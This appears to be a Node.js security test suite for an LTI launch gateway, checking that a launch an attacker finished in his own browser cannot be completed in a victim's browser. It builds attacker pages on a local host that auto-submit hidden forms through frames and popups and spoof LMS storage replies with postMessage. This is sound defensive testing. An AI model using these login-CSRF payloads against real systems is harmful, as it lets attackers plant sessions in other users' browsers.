// SPDX-License-Identifier: Apache-2.0
// A38: an attacker launches the tool as himself, stops before the last step,
// and has somebody else's browser take it. Whoever got in that way would work
// under the attacker's name.

import assert from 'node:assert/strict';
import http from 'node:http';
import { after, test } from 'node:test';
import { startClassroom } from '../support/classroom.js';
import { startCookieBrowsers } from '../support/cookie_browsers.js';
import { cookieIn, enterLogin } from '../support/launches.js';
import { formIn } from '../support/pages.js';

const room = await startClassroom({ profiles: ['moodle-4.5', 'sakai'] });
const browsers = await startCookieBrowsers(['open', 'none']);

// The attacker's site: /post sends the form, /frame has that in a frame, and
// both answer whatever is asked of them as an LMS's storage would.
let spoils;
const escaped = (value) => value.replaceAll('"', '&quot;');
const answering = () => `<script>
const spoils = ${JSON.stringify(spoils)};
addEventListener('message', ({ data, source }) => {
  document.title = 'asked';
  source.postMessage({ subject: 'lti.get_data.response', key: data.key,
    message_id: data.message_id, value: spoils.secret }, '*');
});
setInterval(() => {
  for (const frame of [frames[0], window.opened]) {
    frame?.postMessage({ subject: 'lti.get_data.response', key: spoils.key,
      message_id: 'ltigate-' + spoils.key, value: spoils.secret }, '*');
  }
}, 50);
</script>`;
const pages = {
  '/post': () => `<form method="post" action="${spoils.action}">${
    Object.entries(spoils.fields).map(([name, value]) =>
      `<input type="hidden" name="${name}" value="${escaped(value)}">`)
      .join('')}</form><script>document.forms[0].submit()</script>`,
  '/frame': () => `${answering()}<iframe src="/post"></iframe>`,
  '/window': () => `${answering()}<button onclick="
    window.opened = window.open('/post')">A prize</button>`,
};
const server = http.createServer((request, response) => {
  response.setHeader('content-type', 'text/html; charset=utf-8');
  response.end(`<!doctype html><title>A prize</title>${
    pages[request.url]?.() ?? ''}`);
});
await new Promise((done) => server.listen(0, '127.0.0.1', done));
const evil = (path) => `http://evil.localhost:${server.address().port}${path}`;
after(async () => {
  server.closeAllConnections();
  server.close();
  for (const browser of Object.values(browsers)) await browser.close();
  await room.close();
});

// With his own browser the attacker has got everything there is to have.
async function finished(profile, extra) {
  const attempt = await room.lms.launch(room.exchanges[profile],
    { user: 'teacher' });
  const login = await enterLogin(attempt);
  const form = formIn(login);
  const { action, fields } =
    await attempt.answer(login.location ?? form['data-url']);
  const cookie = cookieIn(login);
  const [, secret] = cookie.split('=');
  return { action, cookie, secret, key: form?.['data-key'] ?? '',
    fields: { ...fields, ...extra(secret) } };
}

const kinds = [
  ['of a login by cookie', 'moodle-4.5', () => ({})],
  ['of a login by cookie, with its secret', 'moodle-4.5',
    (secret) => ({ ltigate_browser: secret })],
  ['of a login by storage', 'sakai', () => ({})],
  ['of a login by storage, with its secret', 'sakai',
    (secret) => ({ ltigate_browser: secret })],
];
const refused = (place) =>
  place.getByRole('heading', { name: 'keeps no cookies' });

for (const [what, profile, extra] of kinds) {
  test(`A38 a finished launch ${what} does not get in elsewhere`, async () => {
    const browser = browsers.open;
    await browser.forget();
    spoils = await finished(profile, extra);
    const page = await browser.page();
    await page.goto(evil('/post'));
    await refused(page).waitFor();
    await page.goto(evil('/frame'));
    await refused(page.frameLocator('iframe')).waitFor();
    await page.goto(evil('/window'));
    const opened = page.waitForEvent('popup');
    await page.click('button');
    await refused(await opened).waitFor();
    assert.equal(await page.title(), 'A prize', 'his page was asked');
    assert.ok(!browser.navigations.some(({ url }) =>
      url.startsWith(room.tool.url)));
  });

  test(`A38 nor where the victim is in the tool already: ${what}`, async () => {
    const browser = browsers.open;
    await browser.forget();
    // Without a frame, so that the cookie's place is the attack's.
    const course = await room.course(browser, profile);
    const own = await room.landed(await room.openWindow(course));
    assert.equal(own.name, 'Stu Student');
    spoils = await finished(profile, extra);
    browser.navigations.length = 0;
    const page = await browser.page();
    await page.goto(evil('/post'));
    await refused(page).waitFor();
    assert.ok(!browser.navigations.some(({ url }) =>
      url.startsWith(room.tool.url)));
  });

  test(`A38 nor where no cookies are kept: ${what}`, async () => {
    const browser = browsers.none;
    await browser.forget();
    spoils = await finished(profile, extra);
    const page = await browser.page();
    await page.goto(evil('/frame'));
    await refused(page.frameLocator('iframe')).waitFor();
    assert.equal(await page.title(), 'A prize', 'his page was asked');
  });
}

test('A38 the launch was good: in its own browser it gets in', async () => {
  for (const [, profile, extra] of kinds.slice(0, 3)) {
    const one = await finished(profile, extra);
    const { status, location } = await room.gateway.open(one.action,
      { form: one.fields, headers: { cookie: one.cookie } });
    assert.equal(status, 303);
    assert.match(location, /ltik=/);
  }
});
